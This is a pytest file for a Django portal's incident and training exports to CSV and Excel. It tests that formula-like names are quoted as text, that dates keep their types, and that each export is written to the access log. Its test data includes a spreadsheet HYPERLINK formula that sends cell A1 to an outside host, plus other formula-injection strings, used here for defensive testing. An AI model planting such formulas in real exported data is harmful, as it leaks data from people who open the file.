"""The CSV and Excel files the security officers download: a name that a spreadsheet would
read as a formula goes out as text (OWASP, CSV injection), and numbers and dates stay
numbers and dates."""

import csv
import io
import zipfile
from datetime import date, datetime

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from incidents.models import AccessLogEntry
from portal.exports import safe_cell
from portal.models import User
from training.models import Completion, TrainingModule

from .conftest import PASSWORD, login_verified, sent_report

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://example.com/?d="&A1;"Klicka här")'
DANGEROUS = [LINK, "+46 70 111", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_a_spreadsheet_would_run_gets_a_quote_in_front(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Anna Andersson", "", "2026-03-14", "a=b", -3, 2.5, None])
def test_other_text_and_numbers_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_dates_are_left_as_dates():
    assert safe_cell(date(2026, 3, 14)) == date(2026, 3, 14)


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def xlsx(response):
    """The first sheet, and its XML, in which a formula would be an <f> element."""
    content = io.BytesIO(response.content)
    with zipfile.ZipFile(content) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    return load_workbook(content).active, xml


# The incidents the officers export from the list in the admin


@pytest.fixture
def handled_report(official, officer):
    officer.full_name = LINK
    officer.save(update_fields=["full_name"])
    return sent_report(official, handler=officer)


def export(client, officer, incident, action):
    login_verified(client, officer)
    data = {"action": action, "_selected_action": [incident.pk]}
    return client.post("/admin/incidents/incident/", data)


def test_a_handler_named_as_a_formula_is_text_in_the_incidents_csv(client, officer, handled_report):
    rows = csv_rows(export(client, officer, handled_report, "export_csv"))
    handler = rows[0].index("Handläggare")
    assert rows[1][handler] == "'" + LINK
    assert rows[1][0] == handled_report.reference


def test_a_handler_named_as_a_formula_is_text_in_the_incidents_xlsx(
    client, officer, handled_report
):
    sheet, xml = xlsx(export(client, officer, handled_report, "export_xlsx"))
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("Handläggare") + 1)
    assert cell.value == LINK and cell.data_type == "s"
    assert cell.quotePrefix  # and Excel keeps it text when the officer edits the cell
    assert "<f>" not in xml


# Who has done which training


@pytest.fixture
def formula_official(db):
    user = User.objects.create_user("anna@example.se", PASSWORD, full_name=LINK, party="-Partiet")
    User.objects.filter(pk=user.pk).update(
        date_joined=timezone.make_aware(datetime(2026, 1, 10, 12))
    )
    introduction = TrainingModule.objects.get(slug="introduktion")
    Completion.objects.create(
        user=user,
        module=introduction,
        completed_at=timezone.make_aware(datetime(2026, 2, 1, 9)),
    )
    return user


OVERVIEW = "/admin/training/trainingmodule/oversikt/"


def test_an_official_named_as_a_formula_is_text_in_the_training_csv(officer, formula_official):
    rows = csv_rows(login_verified(Client(), officer).get(OVERVIEW + "?format=csv"))
    assert rows[1][:5] == ["'" + LINK, "anna@example.se", "'-Partiet", "2026-01-10", "2026-02-01"]


def test_an_official_named_as_a_formula_is_text_in_the_training_xlsx(officer, formula_official):
    sheet, xml = xlsx(login_verified(Client(), officer).get(OVERVIEW + "?format=xlsx"))
    name, email, party, joined, introduction = sheet[2][:5]
    assert name.value == LINK and name.data_type == "s"
    assert party.value == "-Partiet" and party.data_type == "s"
    assert joined.is_date and joined.value.date() == date(2026, 1, 10)
    assert introduction.is_date and introduction.value.date() == date(2026, 2, 1)
    assert "<f>" not in xml


# The Excel file's form, and the access log of every export of reports


@pytest.fixture
def dated_report(official, officer):
    return sent_report(
        official,
        timezone.make_aware(datetime(2026, 3, 14, 9, 30)),
        occurred_on=date(2026, 3, 12),
        next_follow_up=date(2026, 4, 1),
    )


def column(sheet, title):
    header = [cell.value for cell in sheet[1]]
    return header.index(title) + 1


def test_the_xlsx_has_dates_as_dates_a_frozen_header_and_filters(client, officer, dated_report):
    sheet, _ = xlsx(export(client, officer, dated_report, "export_xlsx"))
    received = sheet.cell(row=2, column=column(sheet, "Mottagen"))
    assert received.is_date and received.value == datetime(2026, 3, 14, 9, 30)  # Swedish time
    assert received.number_format == "yyyy-mm-dd hh:mm"
    occurred = sheet.cell(row=2, column=column(sheet, "Datum"))
    assert occurred.is_date and occurred.value.date() == date(2026, 3, 12)
    assert occurred.number_format == "yyyy-mm-dd"
    follow_up = sheet.cell(row=2, column=column(sheet, "Nästa uppföljning"))
    assert follow_up.is_date and follow_up.value.date() == date(2026, 4, 1)
    assert sheet.cell(row=2, column=column(sheet, "Avslutad")).value is None
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:L2"
    assert sheet["A1"].font.b


def test_the_xlsx_columns_are_as_wide_as_their_content(client, officer, dated_report):
    sheet, _ = xlsx(export(client, officer, dated_report, "export_xlsx"))
    width = {cell.value: sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]}
    assert width["Mottagen"] >= len("2026-03-14 09:30")
    assert width["Hur det nådde"] >= len("Hur det nådde")
    assert width["Referens"] < width["Nästa uppföljning"] + 10  # not one wide default


def test_the_csv_has_dates_as_swedish_excel_reads_them(client, officer, dated_report):
    rows = csv_rows(export(client, officer, dated_report, "export_csv"))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["Mottagen"] == "2026-03-14 09:30"
    assert record["Datum"] == "2026-03-12"
    assert record["Nästa uppföljning"] == "2026-04-01"
    assert record["Avslutad"] == ""


@pytest.mark.parametrize(
    ("action", "file_format"), [("export_csv", "CSV"), ("export_xlsx", "Excel")]
)
def test_an_export_is_in_the_access_log_with_who_what_and_how_many(
    client, officer, official, dated_report, action, file_format
):
    other = sent_report(official, kinds=["hat"], channel="brev")
    login_verified(client, officer)
    data = {"action": action, "_selected_action": [dated_report.pk, other.pk]}
    response = client.post("/admin/incidents/incident/?status__exact=ny&q=Anna", data)
    assert response.status_code == 200
    entry = AccessLogEntry.objects.get(action=AccessLogEntry.Action.EXPORT)
    assert (entry.user, entry.user_email) == (officer, officer.email)
    assert entry.exported == (
        f"Händelserapporter ({file_format}): status__exact=ny&q=Anna; 2 markerade"
    )
    assert entry.rows == 2


def test_an_export_of_all_that_match_says_so_in_the_access_log(client, officer, dated_report):
    login_verified(client, officer)
    data = {"action": "export_csv", "_selected_action": [dated_report.pk], "select_across": "1"}
    client.post("/admin/incidents/incident/", data)
    entry = AccessLogEntry.objects.get(action=AccessLogEntry.Action.EXPORT)
    assert entry.exported == "Händelserapporter (CSV): hela listan; alla som matchar"
    assert entry.rows == 1


def test_the_access_log_shows_what_was_exported(client, officer, dated_report):
    export(client, officer, dated_report, "export_xlsx")
    page = client.get("/admin/incidents/accesslogentry/").text
    assert "Exporterade" in page
    assert "Händelserapporter (Excel): hela listan; 1 markerade" in page
    assert "antal rader" in page.lower() and "urval" in page.lower()
